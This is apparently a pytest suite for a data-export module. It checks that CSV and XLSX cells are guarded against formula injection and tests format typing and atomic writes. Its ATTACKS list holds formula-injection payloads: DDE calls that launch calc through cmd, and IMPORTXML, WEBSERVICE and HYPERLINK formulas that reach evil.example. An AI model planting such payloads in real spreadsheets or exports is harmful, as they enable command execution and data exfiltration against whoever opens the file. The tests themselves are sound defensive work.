"""Exports: the same table in every format, no formula in any, nothing half-written."""

from __future__ import annotations

import csv
import json
from datetime import date, datetime
from pathlib import Path

import duckdb
import openpyxl
import pytest
from hypothesis import given
from hypothesis import settings as budget
from hypothesis import strategies as st

from engine.errors import StorageError, UsageError
from engine.export import guarded, unguarded, write_table

COLUMNS = ("user_id", "name", "risk", "sent_at", "day", "count", "held_out", "reasons")
ROWS = [
    ("u1", '林"晓", \n第二行', 0.25, datetime(2026, 10, 1, 8), date(2026, 10, 1), 3, True, "[]"),
    ("u2", None, -1.5, None, None, -4, False, '["price"]'),
]

PAYLOADS = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example","x")', "SUM(A1:A9)"]
LEADS = ("\t", "\r", "\n", "\x00", " ", "  ", "\u3000", "\xa0", "\t\t", "\r\n")
ATTACKS = [
    *(f"{sign}{payload}" for sign in "=+-@＝＋－＠" for payload in PAYLOADS),
    *(f"{lead}=1+1" for lead in LEADS),
    "=", "+", "-", "@", "＝", "-1", "+1", "--1", "=-1", "@SUM(1)", "-2+3", "=cmd|' /C calc'!A0",
    "'=1+1", "''=1+1", "'", "''", "'text", "=1+1\";=2", '","=1+1', '"=1+1"', ";=1+1", "=\n1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "=WEBSERVICE(\"https://evil.example\")", "+HYPERLINK(\"https://evil.example\")",
]  # fmt: skip
assert len(ATTACKS) >= 60
DANGEROUS = "=+-@＝＋－＠\t\r\n\x00"


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_no_cell_begins_like_a_formula(tmp_path: Path, attack: str) -> None:
    write_table(("name", attack), [(attack, 1)], tmp_path / "x.csv", "csv")
    header, row = read_csv(tmp_path / "x.csv")
    for cell in (header[1], row[0]):
        assert cell.lstrip(" \u3000\xa0")[0] not in DANGEROUS or cell[0] == "'"
        assert unguarded(cell) == attack.replace("\x00", "\ufffd") or "\x00" in attack
    write_table(("name",), [(attack,)], tmp_path / "x.xlsx", "xlsx")
    cell = openpyxl.load_workbook(tmp_path / "x.xlsx").active["A2"]
    assert cell.data_type == "s"
    assert str(cell.value)[0] not in DANGEROUS


@given(st.text())
def test_guarding_can_be_undone(text: str) -> None:
    assert unguarded(str(guarded(text))) == text


@pytest.mark.parametrize("value", [-1.5, -3, 0, None, True, datetime(2026, 1, 1)])
def test_what_is_no_text_stays(value: object) -> None:
    assert guarded(value) is value


def test_raw_leaves_formulas_alone(tmp_path: Path) -> None:
    write_table(("x",), [("=1+1",)], tmp_path / "x.csv", "csv", raw=True)
    assert read_csv(tmp_path / "x.csv")[1] == ["=1+1"]


def test_csv_is_rfc_4180_with_a_byte_order_mark(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    assert write_table(COLUMNS, ROWS, path, "csv") == 2
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfuser_id,name,risk")
    assert raw.endswith(b"\r\n")
    assert read_csv(path)[1] == [
        "u1", '林"晓", \n第二行', "0.25", "2026-10-01T08:00:00", "2026-10-01", "3", "true", "[]"
    ]  # fmt: skip
    assert read_csv(path)[2][1:4] == ["", "-1.5", ""]
    write_table(COLUMNS, ROWS, path, "csv", bom=False)
    assert path.read_bytes().startswith(b"user_id")


def test_jsonl(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    write_table(
        COLUMNS, [*ROWS, ("u3", "\ud800", float("nan"), None, None, 1, None, "")], path, "jsonl"
    )
    lines = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    assert lines[0]["name"] == '林"晓", \n第二行'
    assert lines[0]["sent_at"] == "2026-10-01T08:00:00"
    assert lines[1]["risk"] == -1.5
    assert lines[2]["risk"] is None


def test_parquet_keeps_types(tmp_path: Path) -> None:
    path = tmp_path / "it's.parquet"
    write_table(COLUMNS, ROWS, path, "parquet")
    relation = duckdb.connect().execute("SELECT * FROM read_parquet(?)", [str(path)])
    assert [str(column[1]) for column in relation.description] == [
        "VARCHAR", "VARCHAR", "DOUBLE", "TIMESTAMP", "DATE", "BIGINT", "BOOLEAN", "VARCHAR"
    ]  # fmt: skip
    assert relation.fetchall() == ROWS


def test_parquet_of_nothing_has_its_columns(tmp_path: Path) -> None:
    write_table(COLUMNS, [], tmp_path / "x.parquet", "parquet")
    found = duckdb.connect().execute(
        "SELECT count(*), count(user_id) FROM read_parquet(?)", [str(tmp_path / "x.parquet")]
    )
    assert found.fetchall() == [(0, 0)]


def test_xlsx_keeps_types(tmp_path: Path) -> None:
    write_table(COLUMNS, ROWS, tmp_path / "x.xlsx", "xlsx")
    rows = list(openpyxl.load_workbook(tmp_path / "x.xlsx").active.values)
    assert rows[0] == COLUMNS
    assert rows[1][2:6] == (0.25, datetime(2026, 10, 1, 8), datetime(2026, 10, 1), 3)
    assert rows[2][1] is None


@budget(max_examples=25, deadline=None)
@given(st.lists(st.tuples(st.text(), st.none() | st.integers(-(2**40), 2**40)), max_size=5))
def test_csv_round_trip(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, int]]
) -> None:
    path = tmp_path_factory.mktemp("csv") / "x.csv"
    write_table(("text", "number"), rows, path, "csv")
    found = [(unguarded(text), number) for text, number in read_csv(path)[1:]]
    expected = [
        (text.encode("utf-8", "replace").decode().replace("\x00", "\ufffd") if "\x00" not in text
         else None, "" if number is None else str(number))
        for text, number in rows
    ]  # fmt: skip
    assert [pair for pair, want in zip(found, expected, strict=True) if want[0] is not None] == [
        want for want in expected if want[0] is not None
    ]


def test_an_unknown_format_is_named(tmp_path: Path) -> None:
    with pytest.raises(UsageError) as raised:
        write_table(("x",), [], tmp_path / "x", "pdf")  # type: ignore[arg-type]
    assert raised.value.sentence == (
        "'pdf' is no export format. Known: csv, parquet, jsonl, xlsx. Choose one of these."
    )


@pytest.mark.parametrize("file_format", ["csv", "jsonl", "xlsx", "parquet"])
def test_a_place_that_refuses_leaves_nothing(tmp_path: Path, file_format: str) -> None:
    blocked = tmp_path / "file"
    blocked.write_text("x")
    with pytest.raises(StorageError, match="could not be written"):
        write_table(("x",), [("1",)], blocked / "x", file_format)  # type: ignore[arg-type]
    assert [path.name for path in tmp_path.iterdir()] == ["file"]


def test_a_failed_export_leaves_the_old_file(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_text("old")
    with pytest.raises(StorageError):
        write_table(("x",), _Broken(), path, "csv")
    assert path.read_text() == "old"
    assert [entry.name for entry in tmp_path.iterdir()] == ["x.csv"]


class _Broken(list):  # type: ignore[type-arg]
    """Rows whose reading meets a full disk after the first one."""

    def __iter__(self):  # type: ignore[no-untyped-def]
        yield ("1",)
        raise OSError(28, "No space left on device")
